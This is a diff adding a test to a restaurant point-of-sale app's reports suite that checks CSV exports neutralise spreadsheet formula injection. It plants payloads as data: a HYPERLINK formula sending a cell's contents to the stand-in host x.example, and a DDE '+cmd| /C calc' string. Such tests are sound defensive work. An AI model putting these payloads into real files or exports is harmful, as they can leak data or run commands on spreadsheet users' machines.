@@ -415,6 +415,44 @@ describe('reportes: sales, expenses against sales, hours worked', () => {
     expect(other.headers['content-type']).toMatch(/^application\/json/);
   });
 
+  it('writes the names a spreadsheet would evaluate as formulas with a leading quote', async () => {
+    const { api, url } = await fresh();
+    const hyperlink = '=HYPERLINK("http://x.example/?d="&A1,"Ver")';
+    await t.dbs.query(url, 'UPDATE productos SET nombre = $1 WHERE id_producto = $2', [
+      hyperlink,
+      MENU.ceviche.id,
+    ]);
+    await t.dbs.query(
+      url,
+      `UPDATE categorias SET nombre = '+cmd|'' /C calc''!A0' WHERE id_categoria = 1;
+       UPDATE usuarios SET nombre = '@SUM(1+1)', apellido = '-2+3' WHERE id_usuario = ${MENU.rosa};`,
+    );
+    await api.post('/cajas/1/sesiones', { monto_apertura: 100 }).expect(201);
+    const id = await comanda(api, [{ id: MENU.ceviche.id, cantidad: 1 }], {
+      id_usuario: MENU.rosa,
+    });
+    await close(api, id, [{ id_metodo_pago: EFECTIVO, monto: 38 }]);
+    await closedAt(url, id, '2026-03-10T13:00:00-05:00');
+    const csv = async (agrupar: string) =>
+      (
+        await api
+          .get(`/reportes/ventas?${MARZO}&agrupar=${agrupar}`)
+          .set('Accept', 'text/csv')
+          .expect(200)
+      ).text;
+    // the text shows as it is, nothing in it is a formula any more
+    expect(await csv('producto')).toContain(`,"'=HYPERLINK(""http://x.example/?d=""&A1,""Ver"")",`);
+    expect(await csv('categoria')).toContain(`,'+cmd|' /C calc'!A0,`);
+    expect(await csv('mozo')).toContain(`,'@SUM(1+1) -2+3,`);
+    for (const text of [await csv('producto'), await csv('categoria'), await csv('mozo')]) {
+      for (const field of text.slice(1).split('\r\n').join(',').split(','))
+        expect(field).not.toMatch(/^"?[=+@]/);
+    }
+    // the JSON keeps the names as they are
+    const json = await ventas(api, `${MARZO}&agrupar=producto`);
+    expect(json.filas.map((f) => f.etiqueta)).toContain(hyperlink);
+  });
+
   it('answers 400 naming the field for each bad input', async () => {
     const { api } = await fresh();
     const bad = async (path: string, message: RegExp) => {
